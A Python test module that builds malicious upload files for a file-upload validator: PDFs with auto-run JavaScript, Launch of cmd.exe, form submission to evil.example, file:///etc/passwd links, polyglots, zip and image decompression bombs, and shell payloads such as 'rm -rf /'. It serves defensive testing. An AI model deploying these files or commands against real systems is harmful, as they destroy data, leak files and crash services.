"""Good and hostile upload files, built in code at test time (no binary fixtures in the repo).

Each builder returns bytes. ``HOSTILE`` lists the files ``validate_upload`` must refuse, with
the name and content type a client would send and the exact error code expected.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import Image, ImageCms, PngImagePlugin
from pypdf import PdfWriter

GPS_IFD = 0x8825
EXIF_IFD = 0x8769
ORIENTATION = 0x0112
GPS_LATITUDE = (13.0, 45.0, 7.0)
CANARY = b"Fairtrail-canary-home-address"


# --- EXIF ---------------------------------------------------------------------------------


def gps_exif(orientation: int | None = None) -> Image.Exif:
    """EXIF with make/model, a maker note, GPS coordinates and (optionally) an orientation."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "CheapPhone 2"  # Model
    exif[0x010E] = CANARY.decode()  # ImageDescription
    if orientation is not None:
        exif[ORIENTATION] = orientation
    exif[GPS_IFD] = {1: "N", 2: GPS_LATITUDE, 3: "E", 4: (100.0, 30.0, 5.0)}
    exif[EXIF_IFD] = {0x927C: b"MakerNote-secret-serial-123456"}  # MakerNote
    return exif


def xmp_packet() -> bytes:
    return (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="13,45.1N" '
        b'exif:UserComment="' + CANARY + b'"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _image(size=(64, 48), mode="RGB") -> Image.Image:
    image = Image.new(mode, size)
    # A gradient, so encoders produce real entropy-coded data (with 0xFF bytes and stuffing).
    pixels = [
        ((x * 7 + y * 3) % 256, (x * y) % 256, (255 - x * 5) % 256)
        for y in range(size[1])
        for x in range(size[0])
    ]
    image.putdata([p[: len(mode)] if mode != "L" else p[0] for p in pixels])
    return image


# --- JPEG ---------------------------------------------------------------------------------


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes((0xFF, marker)) + (len(payload) + 2).to_bytes(2, "big") + payload


def jpeg_with_gps(size=(64, 48), orientation: int | None = None, icc: bool = True) -> bytes:
    """A camera-like JPEG: EXIF (GPS, maker note, thumbnail-free), XMP, comment, ICC, plus
    IPTC (APP13), an MPF secondary-image block (APP2) and a JFXX thumbnail (APP0)."""
    out = io.BytesIO()
    options = {"exif": gps_exif(orientation).tobytes(), "comment": CANARY, "xmp": xmp_packet()}
    if icc:
        options["icc_profile"] = srgb_icc()
    _image(size).save(out, format="JPEG", quality=90, **options)
    data = out.getvalue()
    extra = (
        jpeg_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04" + CANARY)  # IPTC
        + jpeg_segment(0xE2, b"MPF\x00" + CANARY)  # multi-picture (secondary images)
        + jpeg_segment(0xE0, b"JFXX\x00\x10" + CANARY)  # JFIF extension thumbnail
    )
    return data[:2] + extra + data[2:]


def plain_jpeg(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    _image(size).save(out, format="JPEG", quality=85)
    return out.getvalue()


def jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A small JPEG whose frame header claims ``width`` x ``height`` (a bomb when huge)."""
    data = bytearray(plain_jpeg((16, 16)))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


# --- PNG ----------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def png_with_metadata(size=(32, 24)) -> bytes:
    """A PNG with eXIf (GPS), tEXt, zTXt, iTXt (XMP), tIME and a private chunk."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", CANARY.decode())
    info.add_text("Location", CANARY.decode(), zip=True)  # zTXt
    info.add_itxt("XML:com.adobe.xmp", xmp_packet().decode())
    out = io.BytesIO()
    _image(size).save(out, format="PNG", pnginfo=info, exif=gps_exif().tobytes())
    data = out.getvalue()
    extra = png_chunk(b"tIME", b"\x07\xea\x0b\x19\x0c\x00\x00") + png_chunk(b"prIv", CANARY)
    iend = data.rfind(b"IEND") - 4
    return data[:iend] + extra + data[iend:]


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """Tiny file, huge declared canvas: the classic decompression bomb."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def png_bad_crc() -> bytes:
    data = bytearray(png_with_metadata())
    idat = data.find(b"IDAT")
    length = int.from_bytes(data[idat - 4 : idat], "big")
    data[idat + 4 + length] ^= 0xFF  # first CRC byte of IDAT
    return bytes(data)


# --- WebP ---------------------------------------------------------------------------------


def webp_with_metadata(size=(40, 30), lossless: bool = False) -> bytes:
    out = io.BytesIO()
    _image(size).save(
        out,
        format="WEBP",
        lossless=lossless,
        quality=80,
        exif=gps_exif().tobytes(),
        xmp=xmp_packet(),
        icc_profile=srgb_icc(),
    )
    return out.getvalue()


# --- HEIC ---------------------------------------------------------------------------------


def heic_with_gps(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    heif = pillow_heif.from_pillow(_image(size))
    heif.save(out, quality=80, exif=gps_exif().tobytes(), xmp=xmp_packet())
    return out.getvalue()


def heic_ftyp(brand: bytes = b"heic", compatible: tuple[bytes, ...] = (b"mif1", b"heic")) -> bytes:
    body = brand + b"\x00\x00\x00\x00" + b"".join(compatible)
    return (8 + len(body)).to_bytes(4, "big") + b"ftyp" + body


def heic_malformed() -> bytes:
    """A valid HEIC ftyp box followed by garbage instead of meta/mdat boxes."""
    return heic_ftyp() + random.Random(7).randbytes(2000)


# --- PDF ----------------------------------------------------------------------------------


def pdf_from_writer(writer: PdfWriter | None = None) -> bytes:
    if writer is None:
        writer = PdfWriter()
        writer.add_blank_page(width=200, height=200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def build_pdf(objects: list[str], *, trailer: str = "") -> bytes:
    """A hand-written PDF with a correct xref table; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body.encode("latin-1") + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer}>>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


def simple_pdf(catalog: str = "", page: str = "", extra: tuple[str, ...] = ()) -> bytes:
    """Catalog (1), page tree (2), one page (3), then ``extra`` objects from number 4."""
    return build_pdf(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalog}>>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R {page}>>",
            "<< /Length 24 >>\nstream\nBT /F1 12 Tf (Hi) Tj ET\n\nendstream",
            *extra,
        ]
    )


def pdf_openaction_js() -> bytes:
    return simple_pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert 1) >>")


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the names tree (runs when the file opens)."""
    return simple_pdf(
        catalog="/Names << /JavaScript 5 0 R >>",
        extra=(
            "<< /Names [(init) 6 0 R] >>",
            "<< /S /JavaScript /JS (app.alert 1) >>",
        ),
    )


def pdf_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really")
    return pdf_from_writer(writer)


def pdf_launch() -> bytes:
    return simple_pdf(
        catalog="/OpenAction 5 0 R", extra=("<< /Type /Action /S /Launch /F (cmd.exe) >>",)
    )


def pdf_page_aa() -> bytes:
    return simple_pdf(page="/AA << /O << /S /URI /URI (https://example.org) >> >>")


def pdf_link_annotation_js() -> bytes:
    return simple_pdf(
        page="/Annots [5 0 R]",
        extra=(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 6 0 R >>",
            "<< /S /URI /URI (https://example.org) /Next 7 0 R >>",  # chained actions
            "<< /S /JavaScript /JS 8 0 R >>",
            "<< /Length 9 >>\nstream\napp.alert\nendstream",
        ),
    )


def pdf_outline_js() -> bytes:
    return simple_pdf(
        catalog="/Outlines 5 0 R",
        extra=(
            "<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
            "<< /Title (Go) /Parent 5 0 R /A << /S /JavaScript /JS (x) >> >>",
        ),
    )


def pdf_xfa() -> bytes:
    return simple_pdf(
        catalog="/AcroForm << /Fields [] /XFA 5 0 R >>",
        extra=("<< /Length 7 >>\nstream\n<xdp/>\n\nendstream",),
    )


def pdf_rich_media() -> bytes:
    return simple_pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]")


def pdf_benign_actions() -> bytes:
    """Opens at page 1 and has a URL link: allowed."""
    return simple_pdf(
        catalog="/OpenAction [3 0 R /Fit]",
        page="/Annots [5 0 R]",
        extra=(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
            "/A << /S /URI /URI (https://x.org) >> >>",
        ),
    )


def pdf_with_links(count: int) -> bytes:
    """One page with ``count`` URL link annotations, each its own object (benign, but many)."""
    links = tuple(
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (https://x.org/{n}) >> "
        ">>"
        for n in range(count)
    )
    refs = " ".join(f"{5 + n} 0 R" for n in range(count))
    return simple_pdf(page=f"/Annots [{refs}]", extra=links)


def pdf_no_pages() -> bytes:
    return build_pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"])


def pdf_user_password() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf_from_writer()))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    return pdf_from_writer(writer)


def pdf_owner_password_only() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf_from_writer()))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    return pdf_from_writer(writer)


def pdf_truncated() -> bytes:
    data = simple_pdf()
    return data[: len(data) * 2 // 3]


# --- Not allowed at all --------------------------------------------------------------------


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.sh", "rm -rf /")
    return out.getvalue()


def windows_exe() -> bytes:
    dos = bytearray(b"MZ" + b"\x90\x00" * 29 + b"\x00" * 2)
    dos += (64).to_bytes(4, "little")
    return bytes(dos) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>fetch('/api/v1/vault/')</script></body></html>"


def svg_image() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
        b"<circle r='4'/></svg>"
    )


def gif_image() -> bytes:
    out = io.BytesIO()
    _image((8, 8)).save(out, format="GIF")
    return out.getvalue()


def garbage(size: int = 4096, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


# --- More hostile files (tests/hardening runs the whole corpus through the endpoints) ---------


def tiff_image(width: int = 16, height: int = 16) -> bytes:
    """A little-endian TIFF header whose first IFD claims ``width`` x ``height``."""
    entries = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8)]
    ifd = struct.pack("<H", len(entries))
    ifd += b"".join(struct.pack("<HHII", *entry) for entry in entries) + b"\x00" * 4
    return b"II*\x00" + struct.pack("<I", 8) + ifd


def gifar() -> bytes:
    """GIF + JAR (a ZIP): the classic image that is also an applet."""
    return gif_image() + zip_archive()


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\x00" * (8 * 1024 * 1024))
    return out.getvalue()


def elf_binary() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120


def pdf_incremental_update_js() -> bytes:
    """A clean PDF plus a valid incremental update that swaps in a catalog running JavaScript."""
    base = simple_pdf()
    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    start = len(base)
    update = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R "
        b"/OpenAction << /S /JavaScript /JS (app.alert 1) >> >>\nendobj\n"
    )
    xref = start + len(update)
    return (
        base
        + update
        + b"xref\n0 1\n0000000000 65535 f \n1 1\n"
        + f"{start:010d} 00000 n \n".encode()
        + f"trailer\n<< /Size 5 /Root 1 0 R /Prev {previous} >>\n".encode()
        + f"startxref\n{xref}\n%%EOF\n".encode()
    )


def pdf_open_action(action: str) -> bytes:
    return simple_pdf(catalog=f"/OpenAction << {action} >>")


def pdf_named_embedded_file() -> bytes:
    """An embedded executable in the /Names tree, written by hand (not through pypdf)."""
    return simple_pdf(
        catalog="/Names << /EmbeddedFiles 5 0 R >>",
        extra=(
            "<< /Names [(a.exe) 6 0 R] >>",
            "<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            "<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
    )


def pdf_annotation(subtype_and_action: str) -> bytes:
    return simple_pdf(page=f"/Annots [<< /Type /Annot {subtype_and_action} /Rect [0 0 1 1] >>]")


def webp_lossless_bomb() -> bytes:
    """VP8L (lossless) header claiming 16384 x 16384 pixels."""
    vp8l = b"VP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", 16383 | (16383 << 14))
    return b"RIFF" + struct.pack("<I", 4 + len(vp8l) + 1) + b"WEBP" + vp8l + b"\x00"


def png_with_pdf_in_text_chunk() -> bytes:
    png = png_with_metadata()
    return png[:33] + png_chunk(b"tEXt", b"Comment\x00" + pdf_from_writer()) + png[33:]


def pdf_circular_page_tree() -> bytes:
    return build_pdf(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]
    )


# --- The hostile corpus --------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    build: Callable[[], bytes]
    filename: str | None
    content_type: str | None
    code: str
    status: int = 400


HOSTILE: list[Case] = [
    Case("empty", lambda: b"", "a.pdf", "application/pdf", "empty_file"),
    Case("exe", windows_exe, "setup.exe", "application/x-msdownload", "unsupported_file_type", 415),
    Case(
        "exe_named_pdf",
        windows_exe,
        "contract.pdf",
        "application/pdf",
        "unsupported_file_type",
        415,
    ),
    Case("zip", zip_archive, "docs.zip", "application/zip", "unsupported_file_type", 415),
    Case("html", html_page, "page.html", "text/html", "unsupported_file_type", 415),
    Case("svg", svg_image, "photo.svg", "image/svg+xml", "unsupported_file_type", 415),
    Case("gif", gif_image, "photo.gif", "image/gif", "unsupported_file_type", 415),
    Case("garbage", garbage, "photo.jpg", None, "unsupported_file_type", 415),
    Case("jpeg_named_pdf", jpeg_with_gps, "contract.pdf", None, "file_type_mismatch"),
    Case("jpeg_declared_pdf", jpeg_with_gps, None, "application/pdf", "file_type_mismatch"),
    Case("pdf_named_jpg", pdf_from_writer, "photo.jpg", "image/jpeg", "file_type_mismatch"),
    Case("png_named_exe", png_with_metadata, "photo.exe", None, "file_type_mismatch"),
    Case(
        "polyglot_jpeg_zip",
        lambda: jpeg_with_gps() + zip_archive(),
        "photo.jpg",
        "image/jpeg",
        "file_type_mismatch",
    ),
    Case(
        "polyglot_pdf_header_in_jpeg",
        lambda: plain_jpeg()[:2] + jpeg_segment(0xFE, b"%PDF-1.4\n1 0 obj") + plain_jpeg()[2:],
        "photo.jpg",
        "image/jpeg",
        "file_type_mismatch",
    ),
    Case(
        "polyglot_pdf_zip",
        lambda: pdf_from_writer() + zip_archive(),
        "a.pdf",
        "application/pdf",
        "file_type_mismatch",
    ),
    Case("pdf_truncated", pdf_truncated, "a.pdf", "application/pdf", "malformed_file"),
    Case(
        "pdf_junk_after_eof",
        lambda: simple_pdf() + b"<script>x</script>",
        "a.pdf",
        "application/pdf",
        "malformed_file",
    ),
    Case("pdf_no_pages", pdf_no_pages, "a.pdf", "application/pdf", "malformed_file"),
    Case("pdf_header_only", lambda: b"%PDF-1.7\n%%EOF\n", "a.pdf", None, "malformed_file"),
    Case("pdf_openaction_js", pdf_openaction_js, "a.pdf", None, "pdf_active_content"),
    Case("pdf_names_js", pdf_names_javascript, "a.pdf", None, "pdf_active_content"),
    Case("pdf_embedded_file", pdf_embedded_file, "a.pdf", None, "pdf_active_content"),
    Case("pdf_launch", pdf_launch, "a.pdf", None, "pdf_active_content"),
    Case("pdf_page_aa", pdf_page_aa, "a.pdf", None, "pdf_active_content"),
    Case("pdf_link_chained_js", pdf_link_annotation_js, "a.pdf", None, "pdf_active_content"),
    Case("pdf_outline_js", pdf_outline_js, "a.pdf", None, "pdf_active_content"),
    Case("pdf_xfa", pdf_xfa, "a.pdf", None, "pdf_active_content"),
    Case("pdf_rich_media", pdf_rich_media, "a.pdf", None, "pdf_active_content"),
    Case("pdf_user_password", pdf_user_password, "a.pdf", None, "pdf_encrypted"),
    Case("jpeg_truncated", lambda: plain_jpeg()[:-200], "a.jpg", "image/jpeg", "malformed_file"),
    Case("jpeg_no_scan", lambda: plain_jpeg()[:2] + b"\xff\xd9", "a.jpg", None, "malformed_file"),
    Case(
        "jpeg_stray_bytes",
        lambda: plain_jpeg()[:20] + b"\x00" * 2000 + plain_jpeg()[20:],  # after APP0
        "a.jpg",
        None,
        "malformed_file",
    ),
    Case(
        "jpeg_bomb",
        lambda: jpeg_with_dimensions(60_000, 60_000),
        "a.jpg",
        None,
        "decompression_bomb",
    ),
    Case("png_bomb", png_bomb, "a.png", "image/png", "decompression_bomb"),
    Case("png_absurd_strip", lambda: png_bomb(200_000, 1), "a.png", None, "decompression_bomb"),
    Case("png_bad_crc", png_bad_crc, "a.png", None, "malformed_file"),
    Case("png_truncated", lambda: png_with_metadata()[:-40], "a.png", None, "malformed_file"),
    Case("png_signature_only", lambda: b"\x89PNG\r\n\x1a\n", "a.png", None, "malformed_file"),
    Case("webp_truncated", lambda: webp_with_metadata()[:-30], "a.webp", None, "malformed_file"),
    Case(
        "webp_bomb",
        lambda: (
            b"RIFF\x16\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00"
            + b"\x00\x00\x00\x00"
            + (0xFFFFFF).to_bytes(3, "little") * 2
        ),
        "a.webp",
        None,
        "decompression_bomb",
    ),
    Case("heic_malformed", heic_malformed, "a.heic", "image/heic", "malformed_file"),
    # Formats outside the allow-list, whatever they are called.
    Case("tiff_bomb", lambda: tiff_image(100_000, 100_000), "scan.tif", "image/tiff",
         "unsupported_file_type", 415),
    Case("tiff_named_jpg", tiff_image, "scan.jpg", "image/jpeg", "unsupported_file_type", 415),
    Case("gifar", gifar, "photo.gif", "image/gif", "unsupported_file_type", 415),
    Case("zip_bomb", zip_bomb, "docs.zip", "application/zip", "unsupported_file_type", 415),
    Case("elf_named_pdf", elf_binary, "contract.pdf", "application/pdf",
         "unsupported_file_type", 415),
    Case("shell_script_named_pdf", lambda: b"#!/bin/sh\nrm -rf ~\n", "a.pdf", None,
         "unsupported_file_type", 415),
    Case("html_then_pdf", lambda: html_page() + pdf_from_writer(), "a.pdf", "application/pdf",
         "unsupported_file_type", 415),
    Case("utf16_text_named_jpg", lambda: "\ufeffhello".encode("utf-16"), "a.jpg", None,
         "unsupported_file_type", 415),
    # Active PDF content in less obvious places.
    Case("pdf_incremental_update_js", pdf_incremental_update_js, "a.pdf", None,
         "pdf_active_content"),
    Case("pdf_catalog_aa", lambda: simple_pdf(catalog="/AA << /WC << /S /JavaScript /JS (x) >> >>"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_hex_escaped_javascript", lambda: pdf_open_action("/S /#4A#61vaScript /JS (x)"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_submit_form", lambda: pdf_open_action("/S /SubmitForm /F (https://evil.example/)"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_gotor_unc", lambda: pdf_open_action("/S /GoToR /F (\\\\evil\\s\\x.pdf) /D [0 /Fit]"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_import_data", lambda: pdf_open_action("/S /ImportData /F (x.fdf)"), "a.pdf", None,
         "pdf_active_content"),
    Case("pdf_uri_javascript", lambda: pdf_open_action("/S /URI /URI (JavaScript:alert(1))"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_uri_file", lambda: pdf_open_action("/S /URI /URI (file:///etc/passwd)"), "a.pdf",
         None, "pdf_active_content"),
    Case("pdf_goto_embedded", lambda: pdf_open_action("/S /GoToE /T << /R /C /N (x) >>"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_named_embedded_exe", pdf_named_embedded_file, "a.pdf", None, "pdf_active_content"),
    Case("pdf_file_attachment_annot",
         lambda: pdf_annotation("/Subtype /FileAttachment /FS << /F (a.exe) >>"), "a.pdf", None,
         "pdf_active_content"),
    Case("pdf_screen_rendition", lambda: pdf_annotation("/Subtype /Screen /A << /S /Rendition >>"),
         "a.pdf", None, "pdf_active_content"),
    Case("pdf_circular_page_tree", pdf_circular_page_tree, "a.pdf", None, "malformed_file"),
    # Bombs, degenerate images, polyglots hidden in chunks.
    Case("webp_lossless_bomb", webp_lossless_bomb, "a.webp", None, "decompression_bomb"),
    Case("jpeg_zero_dimensions", lambda: jpeg_with_dimensions(0, 0), "a.jpg", None,
         "malformed_file"),
    Case("png_zero_dimensions", lambda: png_bomb(0, 0), "a.png", None, "malformed_file"),
    Case("jpeg_soi_only", lambda: b"\xff\xd8\xff", "a.jpg", None, "malformed_file"),
    Case("png_with_pdf_in_text_chunk", png_with_pdf_in_text_chunk, "a.png", None,
         "file_type_mismatch"),
]  # fmt: skip
